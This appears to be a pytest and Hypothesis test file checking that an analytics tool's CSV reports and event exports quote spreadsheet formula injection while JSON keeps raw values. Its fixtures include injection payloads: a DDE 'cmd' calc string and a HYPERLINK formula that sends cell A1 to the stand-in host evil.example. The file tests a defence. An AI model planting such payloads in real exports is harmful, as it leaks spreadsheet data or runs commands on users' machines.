"""Formula injection: every CSV the project writes shows a visitor's `=HYPERLINK(...)` as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from analytics.render import to_csv
from analytics.spreadsheet import read_cell, safe_cell
from analytics.store import Store
from tests.analytics.abm_cli import run_abm
from tests.analytics.report_helpers import at, event
from tests.hostile.cases import case

HOSTILE = ["=HYPERLINK(\"http://evil.example\",\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tfoo", "\rbar", "'=already quoted"]  # fmt: skip


def test_cells_that_start_a_formula_are_quoted_and_numbers_are_not() -> None:
    assert [safe_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert [safe_cell(value) for value in ("-3.5", "+7", "-0", -3.5, 12, None, "plain", "a=b", "'plain")] == [
        "-3.5", "+7", "-0", -3.5, 12, None, "plain", "a=b", "'plain"]


@given(st.text())
def test_quoting_is_undone_exactly_by_reading(text: str) -> None:
    case("spreadsheet cells")
    written = safe_cell(text)
    assert read_cell(written) == text
    assert not (written[:1] in set("=+@\t\r") or (written[:1] == "-" and written != text)), written


def test_to_csv_quotes_nested_values_too() -> None:
    [row] = list(csv.DictReader(io.StringIO(to_csv([{"a": "=1+1", "b": ["=x"], "c": -1.5}]))))
    assert row == {"a": "'=1+1", "b": '["=x"]', "c": "-1.5"}


def test_channels_csv_shows_a_campaign_formula_as_text_and_json_keeps_it(tmp_path: Path) -> None:
    path = tmp_path / "events.sqlite"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
    with Store.open(path, create=True) as store:
        store.insert_events([event(at(1), utm_source="@evil", utm_medium="email", utm_campaign=formula)])
    as_csv = run_abm("report", "channels", "--db", path, "--format", "csv", "--until", "2026-04-08")
    assert as_csv.exit_code == 0, as_csv.output
    cells = [cell for row in csv.reader(io.StringIO(as_csv.stdout)) for cell in row]
    assert "'" + formula in cells and "'@evil" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not _number(cell))]
    as_json = run_abm("report", "channels", "--db", path, "--format", "json", "--until", "2026-04-08")
    assert formula in {row["utm_campaign"] for row in json.loads(as_json.stdout)}


def test_event_export_csv_is_safe_and_imports_back_to_the_same_values(tmp_path: Path) -> None:
    path, out, again = tmp_path / "a.sqlite", tmp_path / "events.csv", tmp_path / "b.sqlite"
    with Store.open(path, create=True) as store:
        store.insert_events([event(at(1, minutes=n), utm_campaign=text, referrer_host=text)
                             for n, text in enumerate(HOSTILE)])  # fmt: skip
    assert run_abm("export", "events", "--db", path, "--out", out).exit_code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    result = run_abm("import", "events", "--db", again, out)
    assert result.exit_code == 0, result.output
    with Store.open(again) as store:
        assert sorted(r["utm_campaign"] for r in store.query("SELECT utm_campaign FROM events")) == sorted(HOSTILE)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
